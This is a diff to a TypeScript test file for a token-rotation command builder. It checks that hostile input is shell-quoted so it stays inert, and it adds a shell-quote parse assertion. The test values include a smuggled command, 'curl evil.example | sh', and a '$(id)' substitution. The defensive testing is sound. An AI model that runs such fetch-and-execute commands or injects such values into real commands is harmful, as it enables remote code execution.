@@ -1,3 +1,4 @@
+import { parse } from 'shell-quote';
 import { chatbotNotification, chatSafe, slackMessage } from '../../core/chat';
 import type { AlertPayload } from '../../core/messages';
 import { rotationSteps } from '../../core/rotation';
@@ -207,8 +208,10 @@ describe('rotationSteps', () => {
       tokenSource: 'json',
     });
     expect(steps[4]?.command).toBe(
-      "npx scim-token-monitor register 'x; curl evil.example | sh' --overwrite --created-at today --token-id <new token ID> --region eu-west-1\\$\\(id\\) --prefix '/odd prefix/'",
+      "npx scim-token-monitor register 'x; curl evil'.'example | sh' --overwrite --created-at today --token-id <new token ID> --region eu-west-1\\$\\(id\\) --prefix '/odd prefix/'",
     );
+    // The shell reads the name back whole, as one word: nothing runs.
+    expect(parse(steps[4]?.command ?? '').slice(3, 4)).toEqual([name]);
   });
 
   it('records the new token with one command: the token, today, the region and a non-default prefix', () => {
